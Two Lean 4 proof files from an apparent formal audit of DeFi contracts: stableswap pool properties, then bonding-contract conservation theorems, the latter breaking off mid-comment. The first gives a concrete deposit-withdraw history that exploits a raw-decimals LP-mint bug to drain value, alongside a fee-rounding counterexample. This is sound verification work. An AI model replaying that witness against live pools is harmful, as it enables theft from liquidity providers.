theorem solvers_give_up (op ap ann sum prec cur b c d y : Nat) :
    ssDLoop 0 op ap ann sum prec cur = .err ∧ ssYLoop 0 b c d y = .err := ⟨rfl, rfl⟩

/-! ## The full property, and what of it holds on the current tree -/

/-- `D` is at or below the exact root `D*` of the invariant polynomial at reserves `(x, y)`:
    `Ann·(x+y) + D = Ann·D + D³/(4xy)`, cleared of the division (`f(D) ≤ 0`, `f` increasing). -/
def InvLe (x y ann D : Nat) : Prop := D ^ 3 + 4 * x * y * (ann - 1) * D ≤ 4 * x * y * ann * (x + y)
instance (x y ann D : Nat) : Decidable (InvLe x y ann D) := by unfold InvLe; infer_instance

/-- `Y` is at or below the exact curve point for the other reserve `x'` and invariant `D`. -/
def CurveLe (x' ann D Y : Nat) : Prop :=
  4 * x' * ann * Y ^ 2 + 4 * x' * (ann * x' + D) * Y ≤ D ^ 3 + 4 * x' * ann * D * Y
instance (x' ann D Y : Nat) : Decidable (CurveLe x' ann D Y) := by unfold CurveLe; infer_instance

/-- raw base units → 18-decimal normalised amount -/
def norm18 (v dec : Nat) : Nat := v * 10 ^ (18 - dec)

/-- the quantifier of the property for one swap -/
structure SwapDom (opool apool off : Nat) (f : Fees) (amp po pa : Nat) : Prop where
  decs : (po, pa) ∈ [(6, 6), (6, 8), (8, 6), (6, 18), (18, 6), (4, 5)]
  amp1 : Gen.PAIR_MIN_AMP ≤ amp
  ampM : amp ≤ Gen.PAIR_MAX_AMP
  fees : f.valid = true
  op1 : 10 ^ po ≤ opool
  ap1 : 10 ^ pa ≤ apool
  off1 : 1 ≤ off
  opM : opool < 2 ^ 100
  apM : apool < 2 ^ 100
  offM : off < 2 ^ 100

/-- Clause 1 (NOT proved — needs the solvers' closeness to the exact root; tested by the harness
    with `k = 3`): after a swap the ask reserve net of the gross output, `y`, is not below the exact
    curve point by more than `k` ask base units, the same `k` units being allowed on the invariant
    ("scaled by the curve's local slope"): for every `D ≤ D*` and every `Y ≤ Y*(D − k·U)`,
    `Y − k·U ≤ y·U`, `U` = one ask base unit at 18 decimals. -/
def SwapNotBelowCurve (k : Nat) : Prop :=
  ∀ opool apool off f amp po pa c, SwapDom opool apool off f amp po pa →
    ssSwap opool apool off f amp po pa = .ok c →
    ∀ D Y, InvLe (norm18 opool po) (norm18 apool pa) (2 * amp) D →
      CurveLe (norm18 opool po + norm18 off po) (2 * amp) (D - k * 10 ^ (18 - pa)) Y →
      Y - k * 10 ^ (18 - pa) ≤
        (apool - (c.ret + c.swapFee + c.protFee + c.burnFee)) * 10 ^ (18 - pa)

/-- Clause 2: proceeds do not decrease when the offer grows. -/
def ProceedsMonotone : Prop :=
  ∀ opool apool off off' f amp po pa c c', SwapDom opool apool off f amp po pa → off ≤ off' →
    ssSwap opool apool off f amp po pa = .ok c → ssSwap opool apool off' f amp po pa = .ok c' →
    c.ret ≤ c'.ret

/-- Clause 2 **fails on the current tree, by one or two base units**: the three fees are floored
    separately, so `gross − Σ⌊shareᵢ·gross⌋` steps down when two fees tick over together.
    Witness (also run on the real `compute_swap`, recorded as finding C03-fee-floor-nonmonotone):
    reserves 1000263/1000263 (6,6 decimals), amp 1, protocol fee 1 %, burn fee 0.1 %:
    offer 999 → proceeds 990, offer 1000 → proceeds 989. -/
theorem proceeds_monotone_fails_on_current : ¬ ProceedsMonotone := by
  intro h
  have := h 1000263 1000263 999 1000 { prot := 10000000000000000, swap := 0, burn := 1000000000000000 } 1 6 6
    { ret := 990, spread := 0, swapFee := 0, protFee := 9, burnFee := 0 }
    { ret := 989, spread := 0, swapFee := 0, protFee := 10, burnFee := 1 }
    ⟨by decide, by decide, by decide, by decide, by decide, by decide, by decide, by decide, by decide, by decide⟩
    (by decide) (by decide) (by decide)
  exact absurd this (by decide)

/-- What holds instead (`_partial`: in terms of the gross output, whose own monotonicity in the offer
    rests on the unproved solver accuracy): between two swaps on the same pool, if the gross output
    did not fall then the proceeds fall by at most 2 base units. -/
theorem proceeds_monotone_partial {opool apool off off' : Nat} {f : Fees} {amp po pa : Nat}
    {c c' : SwapComp} (hf : f.valid = true)
    (h : ssSwap opool apool off f amp po pa = .ok c)
    (h' : ssSwap opool apool off' f amp po pa = .ok c')
    (hg : c.ret + c.swapFee + c.protFee + c.burnFee ≤ c'.ret + c'.swapFee + c'.protFee + c'.burnFee) :
    c.ret ≤ c'.ret + 2 := by
  obtain ⟨_, apD, _, y, apU, _, h2, _, _, h5, hy, e1, e2, e3, hs, hr⟩ := (ssSwap_facts h).ex
  obtain ⟨_, apD', _, y', apU', _, h2', _, _, h5', hy', e1', e2', e3', hs', hr'⟩ := (ssSwap_facts h').ex
  have hD : apD' = apD := by rw [h2] at h2'; cases h2'; rfl
  subst hD
  have hU : apU' = apU := by rw [h5] at h5'; cases h5'; rfl
  subst hU
  simp only [Fees.valid, Bool.and_eq_true, decide_eq_true_eq] at hf
  have hsum : f.swap + f.prot + f.burn ≤ E18 := by omega
  have hle : apU' - y ≤ apU' - y' := by omega
  have := proceeds_mono_upto_two (s := f.swap) (p := f.prot) (b := f.burn) hle hsum
  rw [hr, hr', e1, e2, e3, e1', e2', e3']
  exact this

/-- states of the pool state machine reachable by some history of provide / swap / withdraw -/
def Reachable (cfg : SsCfg) (s : SsSt) : Prop :=
  ∃ balA balB ops, s = ssReach cfg (ssInit balA balB) ops

/-- Clause 3 (NOT proved for the exact invariant; `lp_mint_le` is its counterpart for the code's own
    raw-amount `D`): a deposit does not lower the exact invariant (of the decimal-normalised reserves)
    per LP token by more than `dust`: every `D ≤ D*_before` satisfies
    `(D − dust)·S_after ≤ D'·S_before` for some `D' ≤ D*_after`. -/
def InvariantPerLpOnDeposit (dust : Nat) : Prop :=
  ∀ (cfg : SsCfg) (s s1 : SsSt) (u a b : Nat), cfg.dec0 ≤ 18 → cfg.dec1 ≤ 18 → Reachable cfg s →
    0 < s.sup → ssProvide cfg s u a b = .ok s1 →
    ∀ D, InvLe (norm18 s.r0 cfg.dec0) (norm18 s.r1 cfg.dec1) (2 * cfg.amp) D →
      ∃ D', InvLe (norm18 s1.r0 cfg.dec0) (norm18 s1.r1 cfg.dec1) (2 * cfg.amp) D' ∧
        (D - dust) * s1.sup ≤ D' * s.sup

/-- Clause 4: deposit-then-withdraw never returns more value than was deposited — depositing and at
    once withdrawing the LP just minted leaves the pool (same LP supply as before) with an exact
    invariant not lower than before by more than `dust` (18-decimal units): every `D ≤ D*_before`
    has `D − dust ≤ D*_after`. -/
def DepositWithdrawNoValue (dust : Nat) : Prop :=
  ∀ (cfg : SsCfg) (s s1 s2 : SsSt) (u a b : Nat), cfg.dec0 ≤ 18 → cfg.dec1 ≤ 18 → Reachable cfg s →
    0 < s.sup → ssProvide cfg s u a b = .ok s1 →
    ssWithdraw cfg s1 u ((s1.user u).lp - (s.user u).lp) = .ok s2 →
    ∀ D, InvLe (norm18 s.r0 cfg.dec0) (norm18 s.r1 cfg.dec1) (2 * cfg.amp) D →
      InvLe (norm18 s2.r0 cfg.dec0) (norm18 s2.r1 cfg.dec1) (2 * cfg.amp) (D - dust)

/-- The full property C03 (dust: 3 base units for the swap clause; for the deposit clauses, here,
    a whole token — far more than any rounding). -/
def C03_full : Prop :=
  SwapNotBelowCurve 3 ∧ ProceedsMonotone ∧ InvariantPerLpOnDeposit (10 ^ 18) ∧
    DepositWithdrawNoValue (10 ^ 18)

/-! ### the known finding C03-lp-mint-raw-decimals, kernel-checked on the model -/

/-- pool (6, 18 decimals, amp 100, no fees) -/
def wCfg : SsCfg := { amp := 100, dec0 := 6, dec1 := 18, fees := { prot := 0, swap := 0, burn := 0 } }
/-- … seeded by user 0 with 10⁶ / 10⁶ whole tokens -/
def wS0 : SsSt :=
  ssReach wCfg (ssInit 10000000000000 10000000000000000000000000)
    [.provide 0 1000000000000 1000000000000000000000000]
/-- user 1 deposits 1 base unit of A and 10⁶ whole tokens of B … -/
def wS1 : SsSt := ssReach wCfg wS0 [.provide 1 1 1000000000000000000000000]
/-- … and withdraws the LP it was minted -/
def wS2 : SsSt := ssReach wCfg wS1 [.withdraw 1 ((wS1.user 1).lp - (wS0.user 1).lp)]

/-- the exact outputs of the model on the witness history — the same numbers the real contracts
    produce (replays/known/C03-lp-mint-raw-decimals.json): 545 220 541 663 904 324 674 LP minted;
    the depositor ends with +370 079.498643 A and −259 841.00271203113 B -/
example : (wS1.user 1).lp = 545220541663904324674 ∧ wS2.sup = wS0.sup ∧
    (wS2.user 1).a = (wS0.user 1).a + 370079498643 ∧
    (wS2.user 1).b + 259841002712031130000000 = (wS0.user 1).b := by decide

/-- **C03_fails_on_current** (known finding C03-lp-mint-raw-decimals, /verif/known_findings.json):
    on a pool whose two assets have different decimals the LP mint runs `compute_d` on raw amounts;
    the lopsided deposit + withdrawal above takes 111 405 whole tokens of invariant out of the pool
    (2 000 000 → 1 888 594.25 whole tokens at unchanged LP supply) — even with a dust allowance of
    1000 whole tokens. -/
theorem DepositWithdrawNoValue_fails_on_current : ¬ DepositWithdrawNoValue (1000 * 10 ^ 18) := by
  intro h
  have := h wCfg wS0 wS1 wS2 1 1 1000000000000000000000000 (by decide) (by decide)
    ⟨_, _, _, rfl⟩ (by decide) (by decide) (by decide) (2000000 * 10 ^ 18) (by decide)
  exact absurd this (by decide)

/-- `InvLe` is downward closed in `D` -/
theorem InvLe_mono {x y ann A B : Nat} (hAB : A ≤ B) (h : InvLe x y ann B) : InvLe x y ann A := by
  unfold InvLe at *
  have h3 : A ^ 3 ≤ B ^ 3 := Nat.pow_le_pow_left hAB 3
  have h4 := Nat.mul_le_mul_left (4 * x * y * (ann - 1)) hAB
  omega

theorem C03_fails_on_current : ¬ C03_full := by
  intro h
  apply DepositWithdrawNoValue_fails_on_current
  intro cfg s s1 s2 u a b h0 h1 hr hs hp hw D hD
  exact InvLe_mono (by omega) (h.2.2.2 cfg s s1 s2 u a b h0 h1 hr hs hp hw D hD)

/-! ## All histories -/

/-- Over every history of provide / swap / withdraw from the empty pool (any initial user balances,
    any amp and fees, decimals ≤ 18): the pending protocol fees are always covered by the pair's
    balances (so the reported reserves `balance − pending` never underflow and every `checked_sub` of
    them succeeds) and the LP supply is exactly the pair's locked minimum plus the users' holdings. -/
theorem reach_solvent_and_lp_accounted {cfg : SsCfg} (hd0 : cfg.dec0 ≤ 18) (hd1 : cfg.dec1 ≤ 18)
    (balA balB : Nat) (ops : List SsOp) :
    let s := ssReach cfg (ssInit balA balB) ops
    s.pend0 ≤ s.bal0 ∧ s.pend1 ≤ s.bal1 ∧ s.sup = s.lpPair + lpSum s.users := by
  intro s
  have h := ssReach_inv hd0 hd1 ops (ssInit balA balB) (ssInit_inv balA balB)
  exact ⟨h.p0, h.p1, h.lp⟩

/-- `ss_le_reserve` along every history: in any reachable state a successful swap pays the trader,
    the protocol-fee ledger and the burn together no more than the reported ask reserve, and the
    reported ask reserve afterwards is exactly the old one minus those three. -/
theorem reach_swap_le_reserve {cfg : SsCfg} (hd0 : cfg.dec0 ≤ 18) (hd1 : cfg.dec1 ≤ 18)
    {s s' : SsSt} (hr : Reachable cfg s) {u off : Nat} (h : ssSwapOp cfg s u 0 off = .ok s') :
    ∃ c, ssSwap s.r0 s.r1 off cfg.fees cfg.amp cfg.dec0 cfg.dec1 = .ok c ∧
      c.ret + c.protFee + c.burnFee ≤ s.r1 ∧ s'.r1 = s.r1 - (c.ret + c.protFee + c.burnFee) ∧
      s'.r0 = s.r0 + off := by
  obtain ⟨balA, balB, ops, rfl⟩ := hr
  have hI := ssReach_inv hd0 hd1 ops (ssInit balA balB) (ssInit_inv balA balB)
  generalize ssReach cfg (ssInit balA balB) ops = s at *
  unfold ssSwapOp at h
  obtain ⟨_, g1, h⟩ := Res.bind_ok_inv h
  obtain ⟨_, g2, h⟩ := Res.bind_ok_inv h
  obtain ⟨_, g3, h⟩ := Res.bind_ok_inv h
  obtain ⟨_, g4, h⟩ := Res.bind_ok_inv h
  obtain ⟨p0, c0, h⟩ := Res.bind_ok_inv h
  obtain ⟨p1, c1, h⟩ := Res.bind_ok_inv h
  obtain ⟨c, hc, h⟩ := Res.bind_ok_inv h
  obtain ⟨f1, _, h⟩ := Res.bind_ok_inv h
  obtain ⟨fees, _, h⟩ := Res.bind_ok_inv h
  obtain ⟨rf, _, h⟩ := Res.bind_ok_inv h
  obtain ⟨_, _, h⟩ := Res.bind_ok_inv h
  obtain ⟨e0, _⟩ := csub_inv c0
  obtain ⟨e1, _⟩ := csub_inv c1
  rw [if_pos rfl] at hc h
  have hle := ssSwap_sum_le hd1 hc
  have hp0 := hI.p0
  have hp1 := hI.p1
  cases h
  refine ⟨c, ?_, ?_, ?_, ?_⟩
  · unfold SsSt.r0 SsSt.r1; rw [← e0, ← e1]; exact hc
  · unfold SsSt.r1; omega
  · show (s.bal1 - c.ret - c.burnFee) - (s.pend1 + c.protFee) = (s.bal1 - s.pend1) - _; omega
  · show (s.bal0 + off) - s.pend0 = (s.bal0 - s.pend0) + off; omega

/-! ### non-vacuity: the model's exact outputs on concrete inputs inside the quantifier -/

/-- a swap on a balanced (6,6) pool of 10⁶ whole tokens, amp 100, fees 0.1 % / 0.2 % / 0:
    offer 1 token → gross 1 000 000, fees 2000 + 1000, proceeds 997 000 -/
example : ssSwap 1000000000000 1000000000000 1000000
    { prot := 1000000000000000, swap := 2000000000000000, burn := 0 } 100 6 6
    = .ok { ret := 997000, spread := 0, swapFee := 2000, protFee := 1000, burnFee := 0 } := by decide

/-- the same pool seen through (18, 6) decimals: offer 1 whole 18-decimal token -/
example : (ssSwap 1000000000000000000000000 1000000000000 1000000000000000000
    { prot := 0, swap := 0, burn := 0 } 100 18 6).isOk = true := by decide

/-- `SwapDom` is inhabited by the first example's inputs -/
example : SwapDom 1000000000000 1000000000000 1000000
    { prot := 1000000000000000, swap := 2000000000000000, burn := 0 } 100 6 6 :=
  ⟨by decide, by decide, by decide, by decide, by decide, by decide, by decide, by decide, by decide, by decide⟩

/-- `compute_d` and the LP mint on raw amounts -/
example : computeD 100 1000000 2000000 = .ok 2998146 ∧
    ssLpMint 100 5 7 1000000 2000000 3000000 = .ok (some 12) := by decide

/-- a reachable live pool (hypotheses of `provide_code_invariant_per_lp` and of clauses 3/4) -/
example : Reachable wCfg wS0 ∧ wS0.sup ≠ 0 ∧ (ssProvide wCfg wS0 1 1 1000000000000000000000000).isOk = true :=
  ⟨⟨_, _, _, rfl⟩, by decide, by decide⟩

end WW.C03
