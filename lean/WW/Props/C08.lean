/-
  C08 — Bonding: every bonded token is bonded, unbonding, or back with its owner.
  Property theorems only (helpers live in WW/Proofs/Lair.lean). The model `WW.Lair` is the replica
  of `contracts/liquidity_hub/whale_lair` (bond / unbond / withdraw / update_config / migrate, with the
  same-timestamp accumulation fix of `unbond`) plus the bank effects of its messages — the funds of
  `bond`, the `BankMsg::Send` of `withdraw`, and the coins the contract receives WITHOUT a bond: funds
  attached to `unbond` / `withdraw` / `update_config` and plain bank transfers; it is tied to the Rust by
  the `lair` correspondence engine (real whale_lair + real fee_distributor in cw-multi-test).

  Quantifiers: every theorem holds for all configurations (any whitelist, period, growth rate), all
  states satisfying the stated invariant (in particular the state after instantiation), all users
  and denoms (`Nat` ids, not a fixed cast), all block times — also equal or decreasing ones, no
  monotonicity is needed —, all coin lists attached to any message, and all histories
  `List (Env × Op)` (induction over the list; failed operations leave the state unchanged).

  Stray coins: no handler but `bond` reads `info.funds`, and no handler sends anything but `withdraw`'s
  refund of exactly the removed records. Coins that arrive otherwise therefore stay on the contract for
  good. The statements carry them explicitly: the ghost ledger `St.strays` (sender, denom, amount)
  receives exactly the coins attached to a non-bond message or sent plainly (`stray_enters_exactly`),
  nothing is ever removed from it (`stray_coins_stay`), and conservation reads
  `balance = bonded + unbonding + stray` per denom, `wallet + bonded + unbonding + sent-unasked` per user.

  Assumptions (also in tools/checks/C08.json):
  * the two fee-distributor guards of bond/unbond (`validate_claimed`,
    `validate_bonding_for_current_epoch`) are the environment input `Env.guardsOk`; the theorems
    hold for every value of it on every operation (a failing guard is a failed operation);
  * ownership transfer of `update_config` is not modelled; a `fee_distributor_addr` change is modelled as
    "names a contract again" (`Op.setFd`).
-/
import WW.Proofs.Lair
import WW.Proofs.LairEpoch
namespace WW.C08
open WW WW.Lair

/-- **conservation**: after any history — whatever coins were attached to whatever message or sent to
    the contract plainly — for every denom the contract's bank balance equals the amount reported as
    bonded (`TotalBonded.bonded_assets`) plus all pending unbondings plus the stray ledger; and the
    reported amount is the sum of the users' bonds, so the balance is also Σ bonds + Σ unbondings + stray. -/
theorem conservation (cfg : Cfg) (s₀ : St) (h₀ : Inv s₀) (ops : List (Env × Op)) (d : Nat) :
    let s := reach cfg s₀ ops
    s.bal d = assetAmt d s.global.assets + sumUnb d s.unbonds + sumStray d s.strays ∧
    s.bal d = sumBond d s.bonds + sumUnb d s.unbonds + sumStray d s.strays := by
  intro s
  have hI : Inv s := inv_reach ops h₀
  exact ⟨hI.bal_eq d, by rw [hI.bal_eq d, hI.asset_eq d]⟩

/-- conservation for every history that starts right after instantiation -/
theorem conservation_from_init (cfg : Cfg) (period rate : Nat) (ubal : Nat → Nat → Nat)
    (ops : List (Env × Op)) (d : Nat) :
    let s := reach cfg (init period rate ubal) ops
    s.bal d = assetAmt d s.global.assets + sumUnb d s.unbonds + sumStray d s.strays ∧
    s.bal d = sumBond d s.bonds + sumUnb d s.unbonds + sumStray d s.strays :=
  conservation cfg _ (inv_init period rate ubal) ops d

/-- **only stray coins enter the stray ledger, and exactly them**: a successful operation puts new
    entries in front of the ledger whose sum per denom is the sum of the coins it carried without
    bonding them (`attached`: the funds of `unbond` / `withdraw` / `update_config`, the coins of a plain
    transfer; nothing for `bond`, `migrate` and the distributor-address update), all booked to the sender;
    the entries that were there are neither removed nor altered. -/
theorem stray_enters_exactly {cfg : Cfg} {s s' : St} {e : Env} {op : Op} (h : step cfg s e op = .ok s') :
    ∃ l, s'.strays = l ++ s.strays ∧ (∀ d, sumStray d l = coinsAmt d (attached op)) ∧
      (∀ a d, sumStrayOf a d l = if a = e.sender then coinsAmt d (attached op) else 0) :=
  strays_step h

/-- **stray coins stay**: over any history the stray ledger only grows at the front — every entry ever
    made is still there —, so per denom the stray total never decreases: no operation of any sender
    ever pays a stray coin out. -/
theorem stray_coins_stay (cfg : Cfg) (s₀ : St) (ops : List (Env × Op)) :
    let s := reach cfg s₀ ops
    (∃ l, s.strays = l ++ s₀.strays) ∧ ∀ d, sumStray d s₀.strays ≤ sumStray d s.strays := by
  intro s
  obtain ⟨l, hl⟩ := strays_suffix_reach (cfg := cfg) ops s₀
  refine ⟨⟨l, hl⟩, fun d => ?_⟩
  show sumStray d s₀.strays ≤ sumStray d (reach cfg s₀ ops).strays
  rw [hl, sumStray_append]; omega

/-- **global = Σ users**: after any history the global bonded total (`GlobalIndex.bonded_amount`,
    `TotalBonded.total_bonded`) equals the sum of all users' bonds, and per denom the reported
    `bonded_assets` entry equals the sum of the users' bonds of that denom. -/
theorem global_eq_sum (cfg : Cfg) (s₀ : St) (h₀ : Inv s₀) (ops : List (Env × Op)) :
    let s := reach cfg s₀ ops
    s.global.bonded = sumBondAll s.bonds ∧ ∀ d, assetAmt d s.global.assets = sumBond d s.bonds := by
  intro s
  have hI : Inv s := inv_reach ops h₀
  exact ⟨hI.bonded_eq, hI.asset_eq⟩

/-- **bonded, unbonding, or back with its owner** (or given away unasked): for every user and denom,
    wallet + bonded + unbonding + the stray coins this user sent is the same after any history as
    before it. -/
theorem user_tokens_conserved (cfg : Cfg) (s₀ : St) (ops : List (Env × Op)) (a d : Nat) :
    let s := reach cfg s₀ ops
    s.ubal a d + sumBondOf a d s.bonds + sumUnbOf a d s.unbonds + sumStrayOf a d s.strays
      = s₀.ubal a d + sumBondOf a d s₀.bonds + sumUnbOf a d s₀.unbonds + sumStrayOf a d s₀.strays :=
  userTotal_reach ops s₀ a d

/-- **unbond enters the record**: a successful unbond of `x` — with any coins `c` attached — adds exactly
    `x` to the record keyed (sender, denom, block time) — on top of what is already there when several
    unbondings share a block time —, changes no other record, lowers the sender's bond by `x`, and moves
    no tokens but the attached coins, which go from the sender to the contract. -/
theorem unbond_enters_record {cfg : Cfg} {s s' : St} {e : Env} {d x : Nat} {c : List (Nat × Nat)}
    (h : step cfg s e (.unbond (.native d) x c) = .ok s') :
    (∀ a' d' t', recAmt a' d' t' s'.unbonds
        = recAmt a' d' t' s.unbonds + (if a' = e.sender ∧ d' = d ∧ t' = e.now then x else 0)) ∧
    (∀ a' d', sumBondOf a' d' s'.bonds + (if a' = e.sender ∧ d' = d then x else 0) = sumBondOf a' d' s.bonds) ∧
    (∀ d', s'.bal d' = s.bal d' + coinsAmt d' c) ∧
    (∀ a' d', s'.ubal a' d' + (if a' = e.sender then coinsAmt d' c else 0) = s.ubal a' d') :=
  unbond_step_effect h

/-- **paid to the owner, in full, and nothing else**: a successful withdraw — with any coins `c` attached —
    pays the sender exactly the sum `refundOf` of the records it removes (positive, computed from the
    records and the period of the state BEFORE the message: the attached coins do not enter it); the
    contract's balance of the denom changes by attached − refund, every other denom grows by what was
    attached; the sender's pending total drops by the refund; nobody else's wallet, no bond and no global
    total changes. -/
theorem withdraw_pays_removed {cfg : Cfg} {s s' : St} {e : Env} {d : Nat} {c : List (Nat × Nat)}
    (h : step cfg s e (.withdraw d c) = .ok s') :
    0 < refundOf s e d ∧
    s'.ubal e.sender d + coinsAmt d c = s.ubal e.sender d + refundOf s e d ∧
    s'.bal d + refundOf s e d = s.bal d + coinsAmt d c ∧
    (∀ a' d', ¬ (a' = e.sender ∧ d' = d) →
      s'.ubal a' d' + (if a' = e.sender then coinsAmt d' c else 0) = s.ubal a' d') ∧
    (∀ d', d' ≠ d → s'.bal d' = s.bal d' + coinsAmt d' c) ∧
    s'.bonds = s.bonds ∧ s'.global = s.global ∧
    sumUnbOf e.sender d s'.unbonds + refundOf s e d = sumUnbOf e.sender d s.unbonds :=
  withdraw_step_effect h

/-- **a withdrawal is unaffected by stray coins**: the same withdrawal sent with and without coins
    attached removes the same records and leaves the sender with the same wallet once the attached coins
    are counted — they are simply gone to the contract; and the stray ledgers differ by exactly them. -/
theorem withdraw_unaffected_by_stray_coins {cfg : Cfg} {s s' s'' : St} {e : Env} {d : Nat} {c : List (Nat × Nat)}
    (h : step cfg s e (.withdraw d c) = .ok s') (h0 : step cfg s e (.withdraw d []) = .ok s'') :
    s'.unbonds = s''.unbonds ∧
    (∀ a' d', s'.ubal a' d' + (if a' = e.sender then coinsAmt d' c else 0) = s''.ubal a' d') ∧
    (∀ d', s'.bal d' = s''.bal d' + coinsAmt d' c) := by
  obtain ⟨-, hA, hB, hC, hD, -, -, -⟩ := withdraw_step_effect h
  obtain ⟨-, hA0, hB0, hC0, hD0, -, -, -⟩ := withdraw_step_effect h0
  simp only [coinsAmt, Nat.add_zero, ite_self] at hA0 hB0 hC0 hD0
  refine ⟨by rw [withdraw_step_unbonds h, withdraw_step_unbonds h0], fun a' d' => ?_, fun d' => ?_⟩
  · by_cases hk' : a' = e.sender ∧ d' = d
    · obtain ⟨rfl, rfl⟩ := hk'
      simp only [if_true]; omega
    · rw [hC a' d' hk', hC0 a' d' hk']
  · by_cases hd : d' = d
    · subst hd; omega
    · rw [hD d' hd, hD0 d' hd]

/-- **only its owner, only after the period**: a record that a successful withdraw removes belongs
    to the sender and the withdrawn denom, and its unbonding period has elapsed
    (`now ≥ timestamp + period`); records of every other (address, denom) are untouched. -/
theorem withdraw_only_owner_after_period {cfg : Cfg} {s s' : St} {e : Env} {d : Nat} {c : List (Nat × Nat)}
    (h : step cfg s e (.withdraw d c) = .ok s') :
    (∀ r ∈ s.unbonds, r ∉ s'.unbonds → r.addr = e.sender ∧ r.denom = d ∧ r.ts + s.period ≤ e.now) ∧
    (∀ a' d' t', ¬ (a' = e.sender ∧ d' = d) → recAmt a' d' t' s'.unbonds = recAmt a' d' t' s.unbonds) := by
  obtain ⟨s1, r, hk⟩ := withdraw_split h
  refine ⟨fun x hr hr' => ?_, fun a' d' t' hk' => ?_⟩
  · have := withdraw_removed hk (r.unbonds ▸ hr) hr'
    rw [r.period] at this; exact this
  · have := withdraw_other_keys hk a' d' t' hk'
    rw [r.unbonds] at this; exact this

/-- **exactly once**: after the withdraw that paid it, nothing is recorded any more at the key of
    a paid record (so no later withdraw can pay it again), and every surviving record was there
    before and was not due. Together with `withdraw_pays_removed` (paid = Σ removed) and
    `user_tokens_conserved` this is "paid out exactly once". -/
theorem paid_record_is_gone {cfg : Cfg} {s s' : St} {e : Env} {d : Nat} {c : List (Nat × Nat)}
    (h : step cfg s e (.withdraw d c) = .ok s') :
    (∀ r, matured e.sender d e.now s.period s.unbonds r = true → recAmt r.addr r.denom r.ts s'.unbonds = 0) ∧
    (∀ r ∈ s'.unbonds, r ∈ s.unbonds ∧ matured e.sender d e.now s.period s.unbonds r = false) := by
  obtain ⟨s1, r, hk⟩ := withdraw_split h
  refine ⟨fun x hm => ?_, fun x hr => ?_⟩
  · exact withdraw_key_cleared hk (by rw [r.unbonds, r.period]; exact hm)
  · have := withdraw_kept hk hr
    rw [r.unbonds, r.period] at this; exact this

/-- **a wallet grows only through its owner's own withdraw**: whatever the operation, whatever coins it
    carries and whoever sends it, if user `a`'s wallet of denom `d` is larger afterwards, then the
    operation was a withdraw of `d` sent by `a`. -/
theorem wallet_grows_only_by_own_withdraw {cfg : Cfg} {s s' : St} {e : Env} {op : Op} {a d : Nat}
    (h : step cfg s e op = .ok s') (hg : s.ubal a d < s'.ubal a d) :
    e.sender = a ∧ ∃ c, op = .withdraw d c := by
  cases op with
  | bond asset x funds =>
    obtain ⟨d0, nb, ng, -, -, -, hx, -, -, -, -, -, rfl⟩ := bond_inv h
    simp only at hg
    split at hg
    · rename_i hk; obtain ⟨rfl, rfl⟩ := hk; omega
    · omega
  | unbond asset x c =>
    obtain ⟨s1, r, hk⟩ := unbond_split h
    have hle := recv_ubal_le r a d
    obtain ⟨d0, b, nb, slash, nu, ng, -, -, -, -, -, -, -, -, rfl⟩ := unbond_inv hk
    simp only at hg; omega
  | withdraw d0 c =>
    obtain ⟨s1, r, hk⟩ := withdraw_split h
    have hle := recv_ubal_le r a d
    obtain ⟨-, -, -, -, -, rfl⟩ := withdraw_inv hk
    simp only at hg
    split at hg
    · rename_i hk; obtain ⟨rfl, rfl⟩ := hk; exact ⟨rfl, c, rfl⟩
    · omega
  | config p r c =>
    obtain ⟨s1, rr, hk⟩ := config_split h
    have hle := recv_ubal_le rr a d
    obtain ⟨-, p', r', rfl⟩ := config_inv hk
    simp only at hg; omega
  | setFd =>
    obtain ⟨-, rfl⟩ := setFd_inv h
    simp only at hg; omega
  | send c =>
    have hle := recv_ubal_le (send_recv h) a d
    omega
  | migrate st cr l =>
    obtain ⟨-, -, ⟨-, -, rfl⟩ | ⟨-, rfl⟩⟩ := migrate_inv h
    · simp only at hg; omega
    · omega

/-- **becomes withdrawable in full**: in any state satisfying the ledger invariant, a record of
    user `a` whose period has elapsed at `now` and which is among the first `MAX_PAGE_LIMIT`
    records of `(a, d)` (always the case with at most 30 pending records) makes `a`'s withdraw
    succeed — whatever the guards say, and whatever coins `c` are attached as long as the bank can
    deliver them (`hrecv`) —, removes the record and pays at least its amount on top of what `a` has
    left after the attached coins are gone. `hsupply`: the bank's supply of the denom fits `u128`. -/
theorem matured_withdraw_succeeds {cfg : Cfg} {s s1 : St} {a d now : Nat} {g : Bool} {r : UnbRec}
    {c : List (Nat × Nat)}
    (hI : Inv s) (hW : Wf cfg s) (hr : r ∈ s.unbonds) (ha : r.addr = a) (hd : r.denom = d)
    (hrank : rank a d s.unbonds r < Gen.LAIR_MAX_PAGE_LIMIT)
    (hmat : r.ts + s.period ≤ now)
    (hsupply : s.ubal a d + s.bal d ≤ U128MAX)
    (hrecv : receive s a c = .ok s1) :
    ∃ s', step cfg s ⟨now, a, g⟩ (.withdraw d c) = .ok s' ∧ r ∉ s'.unbonds ∧
      s.ubal a d + r.amount ≤ s'.ubal a d + coinsAmt d c := by
  have rr := receive_recv hrecv
  have hu := rr.ubal a d
  simp only [if_true] at hu
  have hb := rr.bal d
  obtain ⟨s', hw, hn, hp⟩ := withdraw_succeeds (g := g) (now := now) (inv_recv hI rr)
    (rr.unbonds ▸ hr) ha hd (hW.unbonds_pos r hr) (by rw [rr.unbonds]; exact hrank)
    (by rw [rr.period]; exact hmat) (by omega)
  refine ⟨s', ?_, hn, by omega⟩
  show withCoins s a c (fun s1 => withdraw s1 ⟨now, a, g⟩ d) = .ok s'
  unfold withCoins
  rw [hrecv]; exact hw

/-- the same for the plain message (no coins attached: the bank has nothing to deliver) -/
theorem matured_withdraw_succeeds_plain {cfg : Cfg} {s : St} {a d now : Nat} {g : Bool} {r : UnbRec}
    (hI : Inv s) (hW : Wf cfg s) (hr : r ∈ s.unbonds) (ha : r.addr = a) (hd : r.denom = d)
    (hrank : rank a d s.unbonds r < Gen.LAIR_MAX_PAGE_LIMIT)
    (hmat : r.ts + s.period ≤ now)
    (hsupply : s.ubal a d + s.bal d ≤ U128MAX) :
    ∃ s', step cfg s ⟨now, a, g⟩ (.withdraw d []) = .ok s' ∧ r ∉ s'.unbonds ∧
      s.ubal a d + r.amount ≤ s'.ubal a d := by
  obtain ⟨s', h1, h2, h3⟩ := matured_withdraw_succeeds (cfg := cfg) (g := g) (c := []) hI hW hr ha hd hrank hmat hsupply rfl
  exact ⟨s', h1, h2, by simpa [coinsAmt] using h3⟩

/-- **whitelist only (acceptance)**: a bond is accepted only for a native asset whose denom is in
    the configured whitelist, with exactly one coin of that denom and that positive amount attached
    (so nothing attached to an accepted bond is stray). -/
